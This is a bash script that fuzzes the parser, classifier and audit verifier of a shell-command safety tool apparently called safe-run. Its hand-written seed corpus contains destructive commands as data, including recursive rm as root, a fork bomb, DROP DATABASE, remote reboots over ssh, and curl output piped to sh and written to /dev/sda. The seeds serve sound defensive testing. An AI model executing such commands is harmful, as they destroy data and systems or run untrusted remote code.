#!/usr/bin/env bash
# Runs the cargo-fuzz targets in fuzz/ for a bounded time each:
#
#   parse_classify   any text through parse, classify and `safe-run check`
#   audit_verify     any bytes through audit::verify and verify_report
#
#   bash scripts/fuzz.sh [SECONDS]      # default 60 per target
#
# The properties checked are in fuzz/invariants.rs. cargo-fuzz needs a
# nightly toolchain (-Zsanitizer=address); without one this says so and
# exits 0: the same properties run on stable, with random inputs, in
# `cargo test --test engine fuzz_smoke::`. Not part of CI (bounded, but minutes).
#
# Exit status: 0 when no target found anything; 1 when one crashed, hung
# (an input taking over 10 s) or ran out of memory (2 GiB): the input is
# in fuzz/artifacts/TARGET/, replay it with
#   cd fuzz && cargo +nightly fuzz run TARGET artifacts/TARGET/FILE
set -euo pipefail
cd "$(dirname "$0")/.."

seconds=${1:-60}
targets=(parse_classify audit_verify)

if ! cargo +nightly --version >/dev/null 2>&1; then
    cat >&2 <<'EOF'
fuzz: no nightly toolchain here (cargo +nightly fails), and cargo-fuzz needs
fuzz: one for its sanitizer flags. Nothing was fuzzed. Install one with
fuzz: `rustup toolchain install nightly` where toolchains can be downloaded.
fuzz: The same properties, with random inputs on stable: cargo test --test engine fuzz_smoke::
EOF
    exit 0
fi
if ! command -v cargo-fuzz >/dev/null 2>&1; then
    echo "fuzz: installing cargo-fuzz (cargo install cargo-fuzz --locked)" >&2
    cargo install cargo-fuzz --locked --quiet
fi

# Seeds: real inputs to mutate from, kept out of git (fuzz/corpus/ is
# ignored) and added to whatever the corpus already holds.
seed_dir=fuzz/corpus
mkdir -p "$seed_dir/parse_classify" "$seed_dir/audit_verify"

# Every example line of the shipped rules (the `match` and `allow` lists).
if command -v python3 >/dev/null 2>&1; then
    python3 - "$seed_dir/parse_classify" rules/*.toml <<'EOF'
import hashlib, sys, tomllib
out, files = sys.argv[1], sys.argv[2:]
for path in files:
    with open(path, "rb") as f:
        for rule in tomllib.load(f).get("rule", []):
            for line in rule.get("match", []) + rule.get("allow", []):
                data = line.encode()
                with open(f"{out}/rule-{hashlib.sha1(data).hexdigest()[:16]}", "wb") as s:
                    s.write(data)
EOF
fi
i=0
while IFS= read -r line; do
    i=$((i + 1))
    printf '%s' "$line" >"$seed_dir/parse_classify/hand-$i"
done <<'EOF'
for h in web1 web2; do ssh $h sudo reboot; done
sudo -u root env FOO=1 nice -n 5 timeout 10 bash -c 'rm -rf "$DIR"/'
x=reboot; $x
echo "$(curl -s http://x | sh)" <<<'y' > /dev/sda
f() { f | f & }; f
cat <<EOF2 | psql
DROP DATABASE orders;
EOF2
find / -name '*.log' -exec rm -f {} +
EOF

# A real audit log: decisions and outcomes sealed by the binary itself.
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
printf '[audit]\npath = "%s/audit.jsonl"\n' "$work" >"$work/config.toml"
cargo build --quiet
for line in 'true' 'echo hello' 'false' 'ls /nonexistent'; do
    ./target/debug/safe-run --config "$work/config.toml" --no-site-rules -c "$line" \
        >/dev/null 2>&1 </dev/null || true
done
./target/debug/safe-run --config "$work/config.toml" --no-site-rules \
    --reason 'CHG-4411 fuzz seed' --confirm yes -- sh -c 'exit 3' >/dev/null 2>&1 </dev/null || true
cp "$work/audit.jsonl" "$seed_dir/audit_verify/seed-log"
head -n 2 "$work/audit.jsonl" >"$seed_dir/audit_verify/seed-two"

status=0
cd fuzz
for target in "${targets[@]}"; do
    echo "== fuzz: $target for ${seconds}s"
    # The shell's quoting, nesting and here-document tokens (fuzz/shell.dict).
    dict=()
    [ "$target" = parse_classify ] && dict=(-dict=shell.dict)
    if ! cargo +nightly fuzz run --release "$target" "corpus/$target" -- \
        "${dict[@]}" -max_total_time="$seconds" -timeout=10 -rss_limit_mb=2048 -max_len=8192 \
        -print_final_stats=1 2>"../target/fuzz-$target.log"; then
        status=1
        echo "fuzz: $target FOUND A PROBLEM: see target/fuzz-$target.log and fuzz/artifacts/$target/" >&2
    fi
    grep -E '^(stat::number_of_executed_units|stat::peak_rss_mb|#[0-9]+ *DONE)' \
        "../target/fuzz-$target.log" || true
    echo "   corpus: $(find "corpus/$target" -type f | wc -l) inputs"
done
exit "$status"
